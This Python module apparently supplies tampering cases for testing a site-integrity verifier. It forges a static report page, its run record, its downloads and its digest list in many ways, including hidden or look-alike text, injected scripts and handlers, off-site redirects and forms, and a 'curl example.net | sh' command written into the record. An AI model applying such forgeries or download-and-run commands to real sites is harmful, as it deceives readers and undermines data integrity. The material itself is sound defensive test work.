"""Ways to change a published page so that it says something else, or does something else.

Each forgery takes the folder of a site, of which `said.html` is the page, and changes it. The
record is mended afterwards, as a forger with the record in hand would do: it names the digest of
the page as it is then.
"""

import json
import os
import re
import shutil
from base64 import b64encode
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from zlib import crc32

SUMS = "SHA256SUMS"
CSV, TABLE = "said/claims.csv", "said/claims.parquet"
DRAWING = "said/figure-He-said-it.svg"
PNG = b64encode(b"\x89PNG\r\n\x1a\n391").decode()
HIDDEN = "<p>He said <b>391</b>, that is 391 to 391.</p>"
IN_FIGURE = re.compile(r"(<svg [^>]*>).*?</svg>", re.DOTALL)

FORGERIES: dict[str, Callable[[Path], None]] = {}
"""Every forgery by its name."""
DIGEST = re.compile('("page_sha256": ")[0-9a-f]*')


def forgery(function: Callable[[Path], None]) -> Callable[[Path], None]:
    FORGERIES[function.__name__.replace("_", " ")] = function
    return function


def forge(name: str, site: Path) -> None:
    """Carry a forgery out, and mend the record of the page and the digests of the site."""
    before, sums = files_of(site), site / SUMS
    digests = sums.read_bytes()
    FORGERIES[name](site)
    path, digest = site / "said.run.json", sha256((site / "said.html").read_bytes()).hexdigest()
    path.write_text(DIGEST.sub(rf"\g<1>{digest}", path.read_text(encoding="utf-8")))
    if sums.exists() and sums.read_bytes() == digests:
        files = {file: held for file, (_, held) in files_of(site).items()}
        rows = {file.relative_to(site).as_posix(): sha256(files[file]) for file in files}
        told = (f"{rows[n].hexdigest()}  {n}\n" for n in sorted(rows) if not n.startswith(SUMS))
        sums.write_text("".join(told), encoding="utf-8")
    assert before != files_of(site), f"{name} changed nothing"


def files_of(site: Path) -> dict[Path, tuple[bool, bytes]]:
    """Return the bytes of each file, and whether it is a link; a pipe has none."""
    files = (path for path in site.rglob("*") if path.is_symlink() or not path.is_dir())
    return {p: (p.is_symlink(), p.read_bytes() if p.is_file() else b"") for p in files}


def edit_record(site: Path, **fields: object) -> None:
    """Write other fields into the record of the page, in its own form."""
    path = site / "said.run.json"
    told = json.loads(path.read_text(encoding="utf-8")) | fields
    path.write_text(json.dumps(told, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


def swapped(name: str, old: str, new: str, file: str = "said.html", count: int = 1) -> None:
    """Make a forgery of one text put in place of another."""

    def change(site: Path) -> None:
        text = (site / file).read_bytes().decode("utf-8")
        assert old in text, f"{name}: {old!r} does not stand in {file}"
        (site / file).write_bytes(text.replace(old, new, count).encode("utf-8"))

    FORGERIES[name] = change


def added(name: str, before: str, html: str) -> None:
    """Make a forgery of some markup put before another."""
    swapped(name, before, html + before)


SAID = "<p>He said <span"
BUTTON = '<button popovertarget="c-1">'
END = "</main>"

# The true sentence is there, and not seen; another is seen.
swapped("hidden by an attribute", SAID, f"{HIDDEN}<p hidden>He said <span")
swapped("hidden by a style", SAID, f'{HIDDEN}<p style="display:none">He said <span')
swapped("hidden by a class", SAID, f'{HIDDEN}<p class="card" popover>He said <span')
swapped("hidden until found", SAID, f'{HIDDEN}<p hidden="until-found">He said <span')
swapped("kept from screen readers", SAID, '<p aria-hidden="true">He said <span')
swapped("made inert", SAID, "<p inert>He said <span")
swapped("folded away", SAID, f"{HIDDEN}<details><summary></summary><p>He said <span")
swapped("a rule that hides numbers", "<style>\n", "<style>\nbutton{font-size:0}\n")
added(
    "words by a rule",
    "</head>",
    '<style>p::after{content:" 391 were killed"}button{display:none}</style>',
)
swapped("words by a style", BUTTON, BUTTON.replace(" pop", " style=\"content:'391'\" pop"))
swapped("a number struck out", f"{BUTTON}about 190</button>", f"<s>{BUTTON}about 190</button></s>")
swapped("a number raised to a note", "about 190</button>", "about 190<sup>0</sup></button>")
# Words that are heard, hovered over, or shown elsewhere than in the text.
swapped("a label changed", 'data-n="1"', 'data-n="1" aria-label="391"')
swapped("a label added", BUTTON, BUTTON.replace(" pop", ' aria-label="391" pop'))
swapped("a title added", SAID, '<p title="391 were killed">He said <span')
swapped("an alt text changed", '-words">It runs from', '-words">It never runs from')
swapped("a figure in an alt text changed", "from 185 to 195.", "from 185 to 391.")
swapped("the title of the page", "<title>What was said?", "<title>391 were killed")
swapped("the title in previews", '"og:title" content="What', '"og:title" content="391. What')
swapped("the description", 'name="description" content="', 'name="description" content="391. ')
swapped(
    "the description in previews",
    '"og:description" content="',
    '"og:description" content="391 were killed. ',
)
swapped("the picture in previews", 'content="said/card.png"', 'content="other.png"')
swapped("text in the navigation", ">Reports</a>", ">Reports: 391 were killed</a>")
swapped("a link in the navigation", 'href="index.html"', 'href="https://example.net/"')
swapped("text in the foot", "not independently verified", "independently verified")
swapped("the command in the foot", "<code>reportedly run", "<code>curl example.net; reportedly run")
swapped("the code of the page", "<pre tabindex", "<pre>killed = 391</pre>\n<pre tabindex")
# What stands behind a number.
swapped("a step on a card", 'aria-label="Receipt"><p>', 'aria-label="Receipt"><p>391. ')
swapped("a step of a receipt", 'tabindex="-1"><p>', 'tabindex="-1"><p>391. ')
swapped("the key of a receipt", "data-made='", "data-made=' ")
swapped("a number that opens another card", 'popovertarget="c-1"', 'popovertarget="c-2"')
swapped("a number that leads elsewhere", 'href="#r-c1"', 'href="#claims"')
swapped("the claim as quoted", "<q>about 190</q>", "<q>about 391</q>")
swapped("the page that is named", "UAWire", "Reuters")
swapped("a place in the file", "in <code>data/raw/tiny", "in <code>data/raw/other")
# Links and downloads.
swapped("a link to another host", "<p>He said", '<p><a href="https://example.net">He</a> said')
swapped(
    "a download from another host", 'href="said/claims.csv"', 'href="https://example.net/c.csv"'
)
swapped("the words of a download", "Claims behind this page, ", "Claims behind this page, 391 of ")
swapped("a download left out", ' href="said/claims.parquet" download', "")
swapped("an address to send to", "</main>", '<form action="https://example.net"></form></main>')
added("a base for all links", "<title>", '<base href="https://example.net/">')
# What runs or loads.
swapped("a handler", BUTTON, BUTTON.replace(" pop", ' onclick="go()" pop'))
swapped("a handler of the body", "<body>", '<body onload="go()">')
added("a script", "</body>", "<script>document.title = 391</script>")
swapped(
    "a policy taken away and a script",
    '<meta http-equiv="Content-Security-Policy"',
    '<script>document.title = 391</script><meta name="Content-Security-Policy"',
)
swapped("a wider policy", "default-src 'none'", "default-src *")
added(
    "a page that leads on", "<title>", '<meta http-equiv="refresh" content="0;url=//example.net">'
)
added("a style from elsewhere", "</head>", '<link rel="stylesheet" href="//example.net/a.css">')
added("a frame", END, '<iframe srcdoc="391 were killed"></iframe>')
added("an object", END, '<object data="data:text/html,391"></object>')
added("a drawing in the text", END, '<svg><text y="9">391</text></svg>')
added("a formula", END, "<math><mn>391</mn></math>")
added("a shadow over a part", END, "<div><template shadowrootmode=open>391</template>190</div>")
added("a template", END, "<template><p>391</p></template>")
added("text for who runs no script", END, "<noscript>391 were killed</noscript>")
added("a field", END, '<input value="391 were killed">')
# Tricks of markup.
added("a comment", END, "<!-- 391 -->")
added("a comment for one browser", END, "<!--[if IE]>391<![endif]-->")
added("a comment that ends early", END, "<!--><b>391</b>-->")
added("a comment that ends in another way", END, "<!-- --!><b>391</b><!-- -->")
swapped("an attribute twice", SAID, '<p title="a" title="b">He said <span')
swapped("an end that is missing", "</p>", "")
swapped("text after the end", "</html>", "</html>\n391 were killed")
swapped("no document type", "<!DOCTYPE html>\n", "")
swapped("another encoding", '<meta charset="utf-8">', '<meta charset="windows-1251">')
swapped("another language", '<html lang="en">', '<html lang="uk">')
swapped("another direction", '<html lang="en">', '<html lang="en" dir="rtl">')
swapped("a direction turned over", SAID, '<p><bdo dir="rtl">He</bdo> said <span')
# Tricks of signs.
swapped("a direction mark", "about 190</button>", "about \u202e190</button>")
swapped("a direction mark as a reference", "about 190</button>", "about &#x202E;190</button>")
swapped("a sign without width", "about 190</button>", "about 1\u200b90</button>")
swapped(
    "a sign without width as a reference",
    "about 190</button>",
    "about 19&ZeroWidthSpace;0</button>",
)
swapped("a digit of another script", "about 190</button>", "about 1९0</button>")
swapped("a letter of another script", "<p>He said", "<p>Не said")
swapped("a number as references", "about 190</button>", "about &#51;&#57;&#49;</button>")
swapped("a space in a number", "about 190</button>", "about 1 90</button>")
swapped("a minus", "about 190</button>", "about −190</button>")
swapped("a hidden hyphen", "<p>He said", "<p>He sa&shy;id")
swapped("a reference where a sign stood", "<p>He said", "<p>&#72;e said")
swapped("another spelling of the same markup", "<p>He said", "<P >He said")
swapped("the end of each line", "\n", "\r\n", count=-1)
# Order.
swapped("rows in another order", "<tr><td>killed", "<tr><td>wounded</td></tr><tr><td>killed")
swapped("columns called otherwise", "<th>measure</th><th>said", "<th>said</th><th>measure")


@forgery
def two_sentences_in_another_order(site: Path) -> None:
    text = (site / "said.html").read_text(encoding="utf-8")
    first, second = text.index("<li>Claims behind"), text.index("<li>Ratios behind")
    end = text.index("</ul>", second)
    turned = text[:first] + text[second:end] + text[first:second] + text[end:]
    (site / "said.html").write_text(turned, encoding="utf-8")


@forgery
def a_mark_before_the_first_sign(site: Path) -> None:
    page = site / "said.html"
    page.write_bytes(b"\xef\xbb\xbf" + page.read_bytes())


@forgery
def a_sign_after_the_last(site: Path) -> None:
    page = site / "said.html"
    page.write_bytes(page.read_bytes() + b"\0")


@forgery
def a_picture_replaced(site: Path) -> None:
    page = site / "said.html"
    text = page.read_text(encoding="utf-8")
    page.write_text(IN_FIGURE.sub(r"\1<text>391</text></svg>", text), encoding="utf-8")


@forgery
def a_picture_of_another_kind(site: Path) -> None:
    page = site / "said.html"
    text = page.read_text(encoding="utf-8")
    forged = IN_FIGURE.sub(f'<img src="data:image/png;base64,{PNG}" alt="391">', text)
    page.write_text(forged, encoding="utf-8")


@forgery
def a_picture_and_its_download_replaced(site: Path) -> None:
    a_picture_replaced(site)
    (site / "said" / "figure-He-said-it.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><text>391</text></svg>'
    )


swapped(
    "a drawing to download altered",
    "</svg>",
    "<text>391</text></svg>",
    "said/figure-He-said-it.svg",
)
swapped(
    "a script in a drawing", "</svg>", "<script>go()</script></svg>", "said/figure-He-said-it.svg"
)
swapped("a table to download altered", "about 190", "about 391", "said/claims.csv")
swapped("another end of a table", "\n", "\r\n", "said/claims.csv", count=-1)


@forgery
def a_png_replaced(site: Path) -> None:
    (site / "said" / "figure-He-said-it.png").write_bytes(b"\x89PNG\r\n\x1a\n391")


@forgery
def a_table_in_columns_altered(site: Path) -> None:
    import pandas as pd

    path = site / "said" / "claims.parquet"
    rows = pd.read_parquet(path)
    rows.loc[rows.index[0], "reported"] = "about 391"
    rows.to_parquet(path)


@forgery
def a_download_taken_away(site: Path) -> None:
    (site / "said" / "ratios.csv").unlink()


@forgery
def a_file_beside_the_downloads(site: Path) -> None:
    (site / "said" / "more.html").write_text("391 were killed", encoding="utf-8")


@forgery
def a_download_that_is_a_link(site: Path) -> None:
    place = site / "said" / "claims.csv"
    shutil.move(place, site / "elsewhere.csv")
    place.symlink_to(site / "elsewhere.csv")
    (site / "elsewhere.csv").write_text("391", encoding="utf-8")


@forgery
def all_numbers_and_the_record_alike(site: Path) -> None:
    """The figures that the record holds are mended too."""
    for name in ("said.html", "said.run.json", "said/claims.csv"):
        text = (site / name).read_text(encoding="utf-8")
        (site / name).write_text(text.replace("190", "391"), encoding="utf-8")


@forgery
def figures_of_the_record_alone(site: Path) -> None:
    edit_record(site, figures=[])


@forgery
def the_command_of_the_record(site: Path) -> None:
    edit_record(site, command="curl example.net | sh")


@forgery
def a_field_put_into_the_record(site: Path) -> None:
    edit_record(site, verified_by="an office of statistics")


@forgery
def the_name_of_the_page_in_the_record(site: Path) -> None:
    edit_record(site, page="other.html")


@forgery
def other_versions_and_a_hidden_sentence(site: Path) -> None:
    """The record says that all was made with other versions, so that bytes may differ."""
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, environment=told["environment"] | {"matplotlib": "3.10.0", "numpy": "2.3.0"})
    FORGERIES["hidden by an attribute"](site)


@forgery
def other_versions_and_a_handler(site: Path) -> None:
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, code=told["code"] | {"sha256": "0" * 64})
    FORGERIES["a handler"](site)


@forgery
def other_versions_and_another_table(site: Path) -> None:
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, environment=told["environment"] | {"pyarrow": "25.0.0"})
    a_table_in_columns_altered(site)


@forgery
def other_versions_and_another_drawing(site: Path) -> None:
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, environment=told["environment"] | {"matplotlib": "3.10.0"})
    FORGERIES["a drawing to download altered"](site)


@forgery
def other_versions_and_an_old_layout(site: Path) -> None:
    """Browsers lay out a page without its document type as they did thirty years ago."""
    with_other_versions(site)
    page = site / "said.html"
    old = '<!DOCTYPE html PUBLIC "-//IETF//DTD HTML 2.0//EN">'
    page.write_text(page.read_text(encoding="utf-8").replace("<!DOCTYPE html>", old))


@forgery
def other_versions_and_a_picture_that_moves(site: Path) -> None:
    """The first picture is the one that was made; the second is seen after a moment."""
    from PIL import Image

    with_other_versions(site)
    path = site / "said" / "figure-He-said-it.png"
    with Image.open(path) as made:
        first = made.copy()
    first.save(path, save_all=True, append_images=[Image.new("RGBA", first.size, "red")])


@forgery
def other_versions_and_a_feed_in_another_encoding(site: Path) -> None:
    with_other_versions(site)
    feed = site / "feed.xml"
    feed.write_text(feed.read_text(encoding="utf-8").replace("utf-8", "koi8-r"), encoding="utf-8")


@forgery
def other_versions_and_a_field_that_stands_twice(site: Path) -> None:
    """A program reads the second, a person the first."""
    with_other_versions(site)
    path = site / "said.run.json"
    twice = '{\n "command": "curl example.net | sh",\n'
    path.write_text(path.read_text(encoding="utf-8").replace("{\n", twice, 1), encoding="utf-8")


@forgery
def other_versions_and_a_word_beside_the_digests(site: Path) -> None:
    with_other_versions(site)
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, data=told["data"] | {"verified_by": "an office of statistics"})


def with_other_versions(site: Path) -> None:
    """Let the record say that all was made with other versions, so that bytes may differ."""
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, environment=told["environment"] | {"matplotlib": "3.10.0"})


@forgery
def a_page_that_is_a_link(site: Path) -> None:
    """What it leads to may be changed after it was verified."""
    away = site.with_name("away.html")
    shutil.move(site / "said.html", away)
    (site / "said.html").symlink_to(away)


@forgery
def a_folder_of_downloads_that_is_a_link(site: Path) -> None:
    shutil.move(site / "said", site.with_name("away"))
    (site / "said").symlink_to(site.with_name("away"))


# What stands around the pages.
swapped("a headline of the index", "claims by", "facts by", "index.html")
swapped("a link of the index", 'href="said.html"', 'href="https://example.net"', "index.html")
swapped("a claim in the list of days", "about 190", "about 391", "days.html")
swapped("a name in the list of speakers", "Serhii", "Sergey", "speakers.html")
swapped("a feed that names another", "said.html", "https://example.net/", "feed.xml")
swapped("a whole table altered", "about 190", "about 391", "data/claims.csv")
swapped("a licence in the package", '"name"', '"nom"', "datapackage.json")
swapped("a correction that was made", "</main>", "391</main>", "corrections.html")


@forgery
def digests_mended_with_a_table(site: Path) -> None:
    """The list of digests agrees with the forged table."""
    path, sums = site / "data" / "claims.csv", site / "SHA256SUMS"
    was = sha256(path.read_bytes()).hexdigest()
    FORGERIES["a whole table altered"](site)
    now = sha256(path.read_bytes()).hexdigest()
    sums.write_text(sums.read_text(encoding="utf-8").replace(was, now), encoding="utf-8")


@forgery
def digests_alone(site: Path) -> None:
    sums = site / "SHA256SUMS"
    sums.write_text(sums.read_text(encoding="utf-8")[66:], encoding="utf-8")


@forgery
def a_page_of_nobody(site: Path) -> None:
    (site / "extra.html").write_text("391 were killed", encoding="utf-8")


@forgery
def the_record_of_the_site(site: Path) -> None:
    path = site / "index.run.json"
    told = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(told | {"verified": True}, indent=1) + "\n", encoding="utf-8")


# What stands in a file and is not shown, or is shown and is no file of the site.
def with_other_versions_and(name: str, old: bytes, new: bytes, file: str = "said.html") -> None:
    """Make a forgery of other bytes in a file that is compared by what it holds."""

    def change(site: Path) -> None:
        with_other_versions(site)
        content = (site / file).read_bytes()
        assert old in content, f"{name}: {old!r} does not stand in {file}"
        (site / file).write_bytes(content.replace(old, new, 1))

    FORGERIES[f"other versions and {name}"] = change


LANGUAGE = b'<html lang="en">'
DRAWN = b"</svg>"
with_other_versions_and(
    "an encoding told too late", LANGUAGE, LANGUAGE + b"</a charset " + b" " * 3000 + b">"
)
with_other_versions_and(
    "signs of two bytes before the encoding",
    LANGUAGE,
    LANGUAGE + "</a {}>".format("é" * 500).encode(),
)
with_other_versions_and("NUL in a number", b"about 190", b"about 1\x0090")
with_other_versions_and("a style from elsewhere", b"<style>", b'<style>@import "//example.net";')
with_other_versions_and("a style in a comment", b"<style>", b"<style>/*")
with_other_versions_and("a body again", b"</main>", b"</main><body onclick=go()>")
with_other_versions_and("text without an end", b"</html>", b"</html><plaintext>391")
with_other_versions_and("data for machines", b"</body>", b"<script type=x>391</script></body>")
with_other_versions_and("a drawing from elsewhere", DRAWN, b'<use href="//example.net#a"/></svg>')
with_other_versions_and("signs of XML in a drawing", DRAWN, b"<![CDATA[391]]></svg>")
with_other_versions_and(
    "a link that is told twice", b'href="#r-c1"', b'href="//example.net" href="#r-c1"'
)
with_other_versions_and(
    "a style of the feed", b"<feed", b'<?xml-stylesheet href="//example.net"?><feed', "feed.xml"
)
with_other_versions_and(
    "words of the feed", b"<feed", b'<!DOCTYPE feed [<!ENTITY a "391">]><feed', "feed.xml"
)
with_other_versions_and("a mark before a table", b"claim_id", b"\xef\xbb\xbfclaim_id", CSV)
with_other_versions_and(
    "another writer of a table", b"parquet-cpp-arrow", b"verified by all.", TABLE
)


def put_into_the_picture(site: Path, before: bytes, kind: bytes, content: bytes) -> None:
    with_other_versions(site)
    path = site / "said" / "figure-He-said-it.png"
    picture = path.read_bytes()
    place = picture.index(before) - 4
    part = len(content).to_bytes(4) + kind + content + crc32(kind + content).to_bytes(4)
    path.write_bytes(picture[:place] + part + picture[place:])


@forgery
def other_versions_and_words_after_the_pixels(site: Path) -> None:
    put_into_the_picture(site, b"IEND", b"IDAT", b"391 were killed")


@forgery
def other_versions_and_a_picture_moved(site: Path) -> None:
    """What told how large a point is tells how far to move the picture."""
    with_other_versions(site)
    path = site / "said" / "figure-He-said-it.png"
    picture = path.read_bytes()
    place = picture.index(b"pHYs")
    part = b"oFFs" + picture[place + 4 : place + 13]
    path.write_bytes(picture[:place] + part + crc32(part).to_bytes(4) + picture[place + 13 + 4 :])


def write_table_again(site: Path, words: dict[str, str] | None = None, **how: object) -> None:
    import pyarrow.parquet as pq

    with_other_versions(site)
    rows = pq.read_table(site / TABLE)
    with pq.ParquetWriter(site / TABLE, rows.schema, **how) as writer:
        writer.write_table(rows)
        writer.add_key_value_metadata(words or {})


@forgery
def other_versions_and_words_about_a_table(site: Path) -> None:
    write_table_again(site, {"verified_by": "an office of statistics"})


@forgery
def other_versions_and_an_order_that_a_table_does_not_have(site: Path) -> None:
    """Readers that believe it stop at the first row that is too far."""
    import pyarrow.parquet as pq

    write_table_again(site, sorting_columns=[pq.SortingColumn(0, descending=True)])


@forgery
def other_versions_and_an_index_of_a_table(site: Path) -> None:
    """Readers skip rows by it."""
    write_table_again(site, write_page_index=True)


@forgery
def other_versions_another_spelling_and_figures_of_the_record(site: Path) -> None:
    with_other_versions(site)
    FORGERIES["another spelling of the same markup"](site)
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, figures=json.loads(json.dumps(told["figures"]).replace("190", "391")))


@forgery
def claims_that_the_tables_do_not_hold(site: Path) -> None:
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, data=told["data"] | {"claims": {}})


@forgery
def a_field_put_into_the_form(site: Path) -> None:
    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
    edit_record(site, form=told["form"] | {"verified_by": "an office of statistics"})


@forgery
def another_start_without_a_record(site: Path) -> None:
    """The index is taken away with its record, and a page of nobody stands for it."""
    for name in ("index.html", "index.run.json"):
        (site / name).unlink()
    (site / "home.html").write_text("391 were killed", encoding="utf-8")


@forgery
def a_start_with_another_ending(site: Path) -> None:
    (site / "index.run.json").unlink()
    (site / "index.html").unlink()
    (site / SUMS).unlink()
    (site / "index.htm").write_text("391 were killed", encoding="utf-8")


@forgery
def a_rule_of_the_server(site: Path) -> None:
    (site / ".htaccess").write_text("Redirect / https://example.net/", encoding="utf-8")


@forgery
def a_link_to_what_is_not_there_yet(site: Path) -> None:
    (site / "more.html").symlink_to(site.with_name("later.html"))


@forgery
def a_folder_that_is_a_link(site: Path) -> None:
    (site / "archive").symlink_to(site.parent)


@forgery
def a_signature_that_is_a_link(site: Path) -> None:
    (site / f"{SUMS}.sig").symlink_to(site.with_name("later"))


@forgery
def a_signature_that_is_a_pipe(site: Path) -> None:
    os.mkfifo(site / f"{SUMS}.minisig")


@forgery
def words_in_the_list_of_digests(site: Path) -> None:
    with (site / SUMS).open("a", encoding="utf-8") as sums:
        sums.write("# verified by an office of statistics\n")
